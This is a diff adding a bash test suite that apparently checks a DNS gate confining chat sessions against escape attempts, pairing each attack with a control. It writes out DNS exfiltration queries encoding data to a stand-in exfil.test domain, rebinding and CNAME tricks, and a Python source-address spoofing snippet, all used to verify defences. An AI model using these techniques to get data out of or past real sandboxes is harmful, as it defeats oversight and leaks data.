@@ -1,0 +1,88 @@
+#!/bin/bash
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# Adversarial suite, DNS plane: what a chat tries to get out of, or past,
+# the DNS gate (chatcelld). Each attack ("attack dns/NAME") sits beside a
+# control showing the same question answered where a rule allows it, or
+# the upstream answering it when asked directly. dnsmasq is the upstream
+# on 127.0.0.10, with its query log (tests/lib/dns_gate.sh).
+. "$(dirname "$0")/../lib/common.sh"
+. "$CC_SRCDIR/tests/lib/dns_gate.sh"
+
+dns_gate_setup
+a=$(chat_user dns-adv-a)
+b=$(chat_user dns-adv-b)
+c=$(chat_user dns-adv-c)
+chatcell-admin egress allow dns-adv-a --domain api.test >/dev/null
+chatcell-admin egress allow dns-adv-b --domain api.test >/dev/null
+chatcell-admin egress allow dns-adv-c --domain '*.exfil.test' --port 8000 >/dev/null
+ask() { in_session "$1" "$dns_probe" "${@:2}"; } # CHAT_ID [--tcp] SERVER NAME [TYPE]
+
+# Data in query names (CVE-2025-55284's path through a forwarding resolver).
+is "$(ask dns-adv-c "$GATE" c0ffee.exfil.test)" "NOERROR tc=0 198.51.100.8" "control: C, with *.exfil.test, gets c0ffee.exfil.test"
+ok "control: that question reached the upstream (its log shows it)" upstream_asked c0ffee.exfil.test
+is "$(ask dns-adv-a "$GATE" 6c65616b2d6f6e65.exfil.test)" "REFUSED tc=0 -" "attack dns/exfil-query-name: A's data-laden name is refused"
+if upstream_asked 6c65616b2d6f6e65.exfil.test; then leaked=1; else leaked=0; fi
+is "$leaked" 0 "attack dns/exfil-query-name: and it never reached the upstream"
+is "$(ask dns-adv-a --tcp "$GATE" 6c65616b2d74776f.exfil.test)" "REFUSED tc=0 -" "attack dns/exfil-tcp: over TCP too"
+if upstream_asked 6c65616b2d74776f.exfil.test; then leaked=1; else leaked=0; fi
+is "$leaked" 0 "attack dns/exfil-tcp: nothing reached the upstream"
+is "$(ask dns-adv-a "$GATE" api.test TXT)" "NOERROR tc=0 -" "control: another record type of an allowed name goes through"
+
+# An allowed name that is an alias of a name the chat may not look up.
+is "$("$dns_probe" 127.0.0.10 alias.test)" "NOERROR tc=0 198.51.100.5" "control: the upstream answers alias.test (a CNAME to other.test)"
+chatcell-admin egress allow dns-adv-a --domain alias.test >/dev/null
+is "$(ask dns-adv-a "$GATE" alias.test)" "REFUSED tc=0 -" "attack dns/cname-to-disallowed: alias.test -> other.test is refused"
+is "$(in_session dns-adv-a "$probe" tcp 198.51.100.5 8000)" ECONNREFUSED "attack dns/cname-to-disallowed: and opened nothing"
+chatcell-admin egress allow dns-adv-a --domain other.test >/dev/null
+is "$(ask dns-adv-a "$GATE" alias.test)" "NOERROR tc=0 198.51.100.5" "control: with a rule for the target too, the alias resolves"
+
+# Answers pointing inside the host or the cells (DNS rebinding).
+chatcell-admin egress allow dns-adv-a --domain loop.test >/dev/null
+chatcell-admin egress allow dns-adv-a --domain cellname.test >/dev/null
+chatcell-admin egress allow dns-adv-a --domain priv.test >/dev/null
+is "$("$dns_probe" 127.0.0.10 loop.test)" "NOERROR tc=0 127.0.0.1" "control: the upstream answers loop.test with 127.0.0.1"
+is "$(ask dns-adv-a "$GATE" loop.test)" "NOERROR tc=0 -" "attack dns/rebind-loopback: the gate drops the 127.0.0.1 record"
+is "$(ask dns-adv-a "$GATE" cellname.test)" "NOERROR tc=0 -" "attack dns/rebind-cell: the gate drops an address in the cell range"
+is "$(ask dns-adv-a "$GATE" priv.test)" "NOERROR tc=0 -" "attack dns/rebind-private: the gate drops a private address"
+chatcell-admin egress allow dns-adv-b --domain priv.test --private >/dev/null
+is "$(ask dns-adv-b "$GATE" priv.test)" "NOERROR tc=0 10.99.0.4" "control: a --private rule lets B have it"
+run in_cell dns-adv-a nft list set inet chatcell dnsany4
+[[ "$out" != *127.0.0.1* && "$out" != *10.77.0.9* && "$out" != *10.99.0.4* ]]
+ok "attack dns/rebind-*: none of them is in A's learned set" test $? -eq 0
+
+# Well-known DNS-over-HTTPS names: only an exact rule.
+chatcell-admin egress allow dns-adv-a --domain '*.google' >/dev/null
+is "$(ask dns-adv-a "$GATE" dns.google)" "REFUSED tc=0 -" "attack dns/doh-wildcard: *.google does not allow dns.google"
+chatcell-admin egress allow dns-adv-b --domain dns.google >/dev/null
+is "$(ask dns-adv-b "$GATE" dns.google)" "NOERROR tc=0 198.51.100.8" "control: an exact rule for dns.google does"
+
+# Other ways out for names: other resolvers, DNS and DoT to learned addresses.
+is "$("$probe" udp 198.51.100.8 53)" ok "control: root reaches the resolver-like listener on 198.51.100.8:53/udp"
+is "$(in_session dns-adv-a "$probe" udp 198.51.100.8 53)" EPERM "attack dns/direct-resolver: A's query to another resolver is refused"
+run in_session dns-adv-a /bin/sh -c "$dns_probe $GATE api.test >/dev/null; $probe tcp 198.51.100.4 8001; $probe tcp 198.51.100.4 853"
+is "$out" "ok
+ECONNREFUSED" "attack dns/dot-learned: a learned address opens every port (8001) but DNS over TLS (853)"
+is "$("$probe" tcp 198.51.100.4 853)" ok "control: root reaches 198.51.100.4:853"
+
+# Speaking for another cell.
+in_session dns-adv-a /usr/bin/python3 -c '
+import socket, sys
+q = bytes.fromhex("abcd01000001000000000000") + b"\x03api\x04test\x00\x00\x01\x00\x01"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: any source address, no privilege needed
+s.bind((sys.argv[1], 0))
+s.sendto(q, ("169.254.1.1", 53))' "$(in_cell dns-adv-b ip -4 -o addr show dev eth0 | awk '{ sub("/.*", "", $4); print $4 }')"
+is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 0 \
+	"attack dns/spoofed-source: A's question with B's address as its source opened nothing for B"
+in_session dns-adv-b "$dns_probe" "$GATE" api.test >/dev/null
+is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 1 "control: B's own question does"
+
+# Flooding: the rate limit (dns_burst 12, dns_rate 1/s) is per chat.
+run in_session dns-adv-c "$dns_probe" --count 40 "$GATE" x.exfil.test
+[[ "$out" =~ ^NOERROR=(1[2-5])\ REFUSED=(2[5-8])\ OTHER=0\ NONE=0$ ]]
+ok "attack dns/flood: 40 questions at once get about the burst (12) answered, the rest REFUSED ($out)" test $? -eq 0
+is "$(ask dns-adv-b "$GATE" api.test)" "NOERROR tc=0 198.51.100.4" "control: another chat is not held back by C's flood"
+
+kill "$GATED_PID"
+wait "$GATED_PID" 2>/dev/null
+done_testing
